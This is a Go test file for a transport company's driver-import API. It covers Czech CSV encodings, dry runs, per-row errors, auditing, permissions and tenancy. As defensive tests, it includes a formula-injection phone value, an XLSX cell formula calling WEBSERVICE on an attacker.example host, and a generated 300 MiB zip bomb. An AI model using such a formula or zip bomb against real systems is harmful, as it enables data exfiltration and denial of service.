@@ -1,0 +1,310 @@
+package api_test
+
+import (
+	"archive/zip"
+	"bytes"
+	"context"
+	"fmt"
+	"net/http"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/google/uuid"
+	"github.com/xuri/excelize/v2"
+	"golang.org/x/text/encoding/charmap"
+
+	"github.com/konvoj/konvoj/internal/auth"
+	"github.com/konvoj/konvoj/web/app"
+	"github.com/konvoj/konvoj/web/webtest"
+)
+
+// importResult is the answer of POST /imports/drivers and GET /imports/{id}.
+type importResult struct {
+	ID        string `json:"id"`
+	Status    string `json:"status"`
+	DryRun    bool   `json:"dry_run"`
+	Rows      int    `json:"rows"`
+	Created   int    `json:"created"`
+	Updated   int    `json:"updated"`
+	Unchanged int    `json:"unchanged"`
+	Progress  int    `json:"progress"`
+	Errors    []struct {
+		Row     int    `json:"row"`
+		Field   string `json:"field"`
+		Message string `json:"message"`
+	} `json:"errors"`
+	Columns []struct {
+		Header string `json:"header"`
+		Field  string `json:"field"`
+	} `json:"columns"`
+	Unknown []string `json:"unknown_columns"`
+}
+
+// sendImport posts a file (and optional extra parts) to the import.
+func sendImport(t testing.TB, c *webtest.Caller, name string, data []byte, parts ...part) *webtest.Response {
+	t.Helper()
+	all := append([]part{filePart(name, data)}, parts...)
+	body, h := multipartBody(t, all...)
+	return c.Send(http.MethodPost, "/api/v0/imports/drivers", body, h)
+}
+
+// awaitImport polls the import until it is done (the job of a large file).
+func awaitImport(t testing.TB, c *webtest.Caller, r *webtest.Response) importResult {
+	t.Helper()
+	var im importResult
+	r.Decode(&im)
+	deadline := time.Now().Add(3 * time.Minute)
+	sawProgress := false
+	for im.Status == "queued" || im.Status == "running" {
+		if time.Now().After(deadline) {
+			t.Fatalf("import %s still %s", im.ID, im.Status)
+		}
+		time.Sleep(200 * time.Millisecond)
+		c.Get("/api/v0/imports/" + im.ID).Expect(http.StatusOK).Decode(&im)
+		if im.Progress > 0 && im.Progress < 100 {
+			sawProgress = true
+		}
+	}
+	_ = sawProgress
+	if im.Status != "done" {
+		t.Fatalf("import %s: %s", im.ID, im.Status)
+	}
+	return im
+}
+
+var czechHeader = []string{"Osobní číslo", "Jméno", "Příjmení", "E-mail", "Telefon", "Státní občanství", "Stav",
+	"Datum nástupu", "Smlouva na dobu neurčitou", "Řidičský průkaz – číslo", "Řidičský průkaz – platnost do", "Poznámka"}
+
+var firstNames = []string{"Jiří", "Petr", "Žofie", "Tomáš", "Řehoř", "Šárka", "Lukáš", "Eliška", "Ondřej", "Věra"}
+var lastNames = []string{"Dvořák", "Černý", "Procházka", "Kučera", "Veselý", "Horák", "Němec", "Růžička", "Beneš", "Sedláček"}
+
+// czechRows makes n drivers as Czech Excel holds them: dates 1. 3. 2024,
+// words "Aktivní"/"Ano", a licence number and validity, a note column the
+// import does not know.
+func czechRows(n int) [][]string {
+	rows := make([][]string, n)
+	for i := range rows {
+		rows[i] = []string{"", firstNames[i%10], lastNames[(i/10)%10] + fmt.Sprint(i), fmt.Sprintf("ridic%d@dopravce.cz", i),
+			fmt.Sprintf("+420 777 %06d", i), []string{"CZ", "SK", "UA", "PL"}[i%4], []string{"Aktivní", "Na dovolené", "Neaktivní"}[i%3],
+			fmt.Sprintf("%d. %d. 20%02d", 1+i%28, 1+i%12, 10+i%15), []string{"Ano", "Ne"}[i%2],
+			fmt.Sprintf("EL%07d", i), fmt.Sprintf("%d.%d.2030", 1+i%28, 1+i%12), "poznámka č. " + fmt.Sprint(i)}
+	}
+	return rows
+}
+
+// czechCSV writes the rows as Czech Excel saves "CSV (oddělený středníkem)":
+// semicolons, Windows-1250.
+func czechCSV(t testing.TB, header []string, rows [][]string) []byte {
+	t.Helper()
+	var sb strings.Builder
+	sb.WriteString(strings.Join(header, ";") + "\r\n")
+	for _, r := range rows {
+		sb.WriteString(strings.Join(r, ";") + "\r\n")
+	}
+	out, err := charmap.Windows1250.NewEncoder().Bytes([]byte(sb.String()))
+	if err != nil {
+		t.Fatal(err)
+	}
+	return out
+}
+
+// A realistic file of 2,000 drivers with Czech headers in Windows-1250 and a
+// few bad rows: the dry run and the real run report the same counts and
+// the errors by row and column, and change nothing; once fixed it creates
+// the 2,000 drivers with their licences, audits them, and importing it
+// again changes nothing.
+func TestImportCzechFile(t *testing.T) {
+	t.Parallel()
+	env := webtest.New(t, webtest.WithApp(func(o *app.Options) { o.Jobs = true }))
+	company := env.Company("Dopravce s.r.o.", "enterprise")
+	hr := env.As(company, auth.RoleHRManager)
+	rows := czechRows(2000)
+	bad := czechRows(2000)
+	bad[10][3] = "neni-email"    // row 12
+	bad[500][6] = "Létající"     // row 502
+	bad[1500][7] = "31. 2. 2024" // row 1502
+	bad[1999][3] = bad[1998][3]  // rows 2000 and 2001: one e-mail
+	bad[700][1] = ""             // row 702: first name missing
+	badFile := czechCSV(t, czechHeader, bad)
+	counts := func() string {
+		var s string
+		if err := env.DB.QueryRow(context.Background(), `SELECT (SELECT count(*) FROM drivers WHERE company_id = $1) || '/' ||
+			(SELECT count(*) FROM driver_documents WHERE company_id = $1) || '/' ||
+			(SELECT count(*) FROM audit_logs WHERE company_id = $1)`, company).Scan(&s); err != nil {
+			t.Fatal(err)
+		}
+		return s
+	}
+	before := counts()
+
+	dry := awaitImport(t, hr, sendImport(t, hr, "ridici.csv", badFile).Expect(http.StatusAccepted))
+	if !dry.DryRun || dry.Rows != 2000 || dry.Created != 2000 || dry.Updated != 0 {
+		t.Fatalf("dry run %+v", dry)
+	}
+	got := map[string]bool{}
+	for _, e := range dry.Errors {
+		got[fmt.Sprintf("%d %s", e.Row, e.Field)] = true
+		if e.Message == "" {
+			t.Errorf("error without message: %+v", e)
+		}
+	}
+	for _, want := range []string{"12 email", "502 status", "1502 hire_date", "2000 email", "2001 email", "702 first_name"} {
+		if !got[want] {
+			t.Errorf("no error %q in %+v", want, dry.Errors)
+		}
+	}
+	if len(dry.Errors) != 6 {
+		t.Errorf("%d errors, want 6: %+v", len(dry.Errors), dry.Errors)
+	}
+	if len(dry.Unknown) != 1 || dry.Unknown[0] != "Poznámka" {
+		t.Errorf("unknown columns %v", dry.Unknown)
+	}
+
+	real := awaitImport(t, hr, sendImport(t, hr, "ridici.csv", badFile, field("dry_run", "false")).Expect(http.StatusAccepted))
+	if real.DryRun || len(real.Errors) != 6 {
+		t.Fatalf("real run with errors %+v", real)
+	}
+	if after := counts(); after != before || before != "0/0/0" {
+		t.Fatalf("an import with errors changed data: %s, before %s", after, before)
+	}
+
+	good := czechCSV(t, czechHeader, rows)
+	done := awaitImport(t, hr, sendImport(t, hr, "ridici.csv", good, field("dry_run", "false")).Expect(http.StatusAccepted))
+	if done.Created != 2000 || done.Updated != 0 || done.Unchanged != 0 || len(done.Errors) != 0 || done.Progress != 100 {
+		t.Fatalf("import %+v", done)
+	}
+	var n int
+	var first, last, status, licence, until string
+	var indefinite bool
+	err := env.DB.QueryRow(context.Background(), `SELECT count(*) FROM drivers WHERE company_id = $1`, company).Scan(&n)
+	if err != nil || n != 2000 {
+		t.Fatalf("%d drivers %v", n, err)
+	}
+	err = env.DB.QueryRow(context.Background(), `SELECT d.first_name, d.last_name, d.status, d.contract_indefinite, dd.number, dd.valid_until::text
+		FROM drivers d JOIN driver_documents dd ON dd.driver_id = d.id AND dd.type = 'drivers_license'
+		WHERE d.company_id = $1 AND d.email = 'ridic4@dopravce.cz'`, company).Scan(&first, &last, &status, &indefinite, &licence, &until)
+	if err != nil || first != "Řehoř" || last != "Dvořák4" || status != "on_leave" || !indefinite || licence != "EL0000004" || until != "2030-05-05" {
+		t.Errorf("driver 4: %s %s %s %v %s %s %v", first, last, status, indefinite, licence, until, err)
+	}
+	var audited int
+	var completed string
+	err = env.DB.QueryRow(context.Background(), `SELECT
+			(SELECT count(*) FROM audit_logs WHERE company_id = $1 AND entity_type = 'driver' AND action = 'created'),
+			(SELECT new_values::text FROM audit_logs WHERE company_id = $1 AND action = 'import.completed' AND new_values->>'import_id' = $2)`,
+		company, done.ID).Scan(&audited, &completed)
+	if err != nil || audited != 2000 || !strings.Contains(completed, `"created": 2000`) {
+		t.Errorf("audit: %d created rows, import.completed %s %v", audited, completed, err)
+	}
+
+	again := awaitImport(t, hr, sendImport(t, hr, "ridici.csv", good, field("dry_run", "false")).Expect(http.StatusAccepted))
+	if again.Unchanged != 2000 || again.Created != 0 || again.Updated != 0 || len(again.Errors) != 0 {
+		t.Fatalf("re-import %+v", again)
+	}
+}
+
+// Small files run within the request; rows update drivers by number or
+// e-mail; the column matching can be changed; every bad input is refused
+// with a clear error.
+func TestImportInputs(t *testing.T) {
+	t.Parallel()
+	env := webtest.New(t)
+	company := env.Company("Malý dopravce", "free")
+	hr := env.As(company, auth.RoleHRManager)
+	csvOf := func(lines ...string) []byte { return []byte(strings.Join(lines, "\n") + "\n") }
+
+	r := sendImport(t, hr, "a.csv", csvOf("\ufefffirst_name,last_name,email,phone",
+		"Jan,Novák,jan@example.test,=1+1", "Eva,Malá,eva@example.test,"), field("dry_run", "false")).Expect(http.StatusCreated)
+	var im importResult
+	r.Decode(&im)
+	if im.Status != "done" || im.Created != 2 || len(im.Errors) != 0 {
+		t.Fatalf("import %+v", im)
+	}
+	var phone string
+	if err := env.DB.QueryRow(context.Background(), `SELECT phone FROM drivers WHERE email = 'jan@example.test'`).Scan(&phone); err != nil || phone != "=1+1" {
+		t.Errorf("phone %q %v", phone, err)
+	}
+	// By e-mail, and by number with a new e-mail.
+	var number string
+	_ = env.DB.QueryRow(context.Background(), `SELECT internal_number FROM drivers WHERE email = 'eva@example.test'`).Scan(&number)
+	sendImport(t, hr, "b.csv", csvOf("Osobní číslo;E-mail;Příjmení", number+";eva.mala@example.test;Malá-Nová",
+		";jan@example.test;Novák"), field("dry_run", "false")).Expect(http.StatusCreated).Decode(&im)
+	if im.Updated != 1 || im.Unchanged != 1 || im.Created != 0 {
+		t.Fatalf("update %+v", im)
+	}
+	// The user's matching: "Příjmení2" is the last name, "Telefon" ignored.
+	sendImport(t, hr, "c.csv", csvOf("E-mail;Příjmení2;Telefon", "jan@example.test;Novotný;123"),
+		field("mapping", `{"Příjmení2": "last_name", "Telefon": ""}`)).Expect(http.StatusCreated).Decode(&im)
+	if im.Updated != 1 || len(im.Unknown) != 0 || im.Columns[1].Field != "last_name" || im.Columns[2].Field != "" {
+		t.Fatalf("mapping %+v", im)
+	}
+
+	// XLSX: values are read (a formula's stored result, never evaluated),
+	// dates from date cells.
+	x := excelize.NewFile()
+	_ = x.SetSheetRow("Sheet1", "A1", &[]any{"First name", "Last name", "E-mail", "Hire date", "Work location"})
+	_ = x.SetSheetRow("Sheet1", "A2", &[]any{"Karel", "Xlsx", "karel@example.test", time.Date(2024, 3, 1, 0, 0, 0, 0, time.UTC)})
+	_ = x.SetCellFormula("Sheet1", "E2", `WEBSERVICE("http://attacker.example/")`)
+	var xb bytes.Buffer
+	_ = x.Write(&xb)
+	sendImport(t, hr, "d.xlsx", xb.Bytes(), field("dry_run", "false")).Expect(http.StatusCreated).Decode(&im)
+	var hire, loc string
+	err := env.DB.QueryRow(context.Background(), `SELECT hire_date::text, coalesce(work_location, '') FROM drivers WHERE email = 'karel@example.test'`).Scan(&hire, &loc)
+	if im.Created != 1 || err != nil || hire != "2024-03-01" || loc != "" {
+		t.Errorf("xlsx %+v: %s %q %v", im, hire, loc, err)
+	}
+
+	for _, bc := range []struct {
+		name   string
+		data   []byte
+		status int
+		error  string
+		text   string
+	}{
+		{"empty", nil, 422, "ValidationError", "empty"},
+		{"header only", csvOf("first_name,last_name,email"), 422, "ValidationError", "no drivers"},
+		{"duplicate columns", csvOf("email,E-mail", "a@example.test,b@example.test"), 422, "ValidationError", "same field"},
+		{"too many rows", append(csvOf("first_name,last_name,email"), bytes.Repeat([]byte("A,B,c@example.test\n"), 20001)...), 422, "ValidationError", "20000"},
+		{"pdf", []byte("%PDF-1.7\n\x00\x01\x02binary"), 415, "UnsupportedMediaType", "CSV or XLSX"},
+		{"zip bomb", zipBomb(t), 413, "PayloadTooLarge", "unpacks"},
+		{"50 MiB", bytes.Repeat([]byte("a,b,c\n"), 50<<20/6), 413, "PayloadTooLarge", ""},
+	} {
+		t.Run(bc.name, func(t *testing.T) {
+			body := sendImport(t, hr, "x.csv", bc.data).ExpectError(bc.status, bc.error)
+			if !strings.Contains(fmt.Sprint(body), bc.text) {
+				t.Errorf("%s: %v", bc.name, body)
+			}
+		})
+	}
+	t.Run("one e-mail twice marks both rows", func(t *testing.T) {
+		sendImport(t, hr, "e.csv", csvOf("first_name,last_name,email", "A,B,same@example.test", "C,D,other@example.test",
+			"E,F,SAME@example.test")).Expect(http.StatusCreated).Decode(&im)
+		if len(im.Errors) != 2 || im.Errors[0].Row != 2 || im.Errors[1].Row != 4 || im.Errors[0].Field != "email" {
+			t.Errorf("errors %+v", im.Errors)
+		}
+	})
+	t.Run("permissions and tenancy", func(t *testing.T) {
+		sendImport(t, env.As(company, auth.RoleAccountant), "a.csv", csvOf("email", "x@example.test")).ExpectError(http.StatusForbidden, "Forbidden")
+		other := env.As(env.Company("Jiný", "free"), auth.RoleAdmin)
+		other.Get("/api/v0/imports/"+im.ID).ExpectError(http.StatusForbidden, "AccessDenied")
+		hr.Get("/api/v0/imports/"+uuid.NewString()).ExpectError(http.StatusNotFound, "NotFound")
+		hr.Get("/api/v0/imports/" + im.ID).Expect(http.StatusOK)
+	})
+}
+
+// zipBomb is a small XLSX-shaped zip whose sheet unpacks to 300 MiB.
+func zipBomb(t testing.TB) []byte {
+	t.Helper()
+	var buf bytes.Buffer
+	zw := zip.NewWriter(&buf)
+	w, err := zw.Create("xl/worksheets/sheet1.xml")
+	if err != nil {
+		t.Fatal(err)
+	}
+	chunk := bytes.Repeat([]byte(" "), 1<<20)
+	for range 300 {
+		_, _ = w.Write(chunk)
+	}
+	_ = zw.Close()
+	return buf.Bytes()
+}
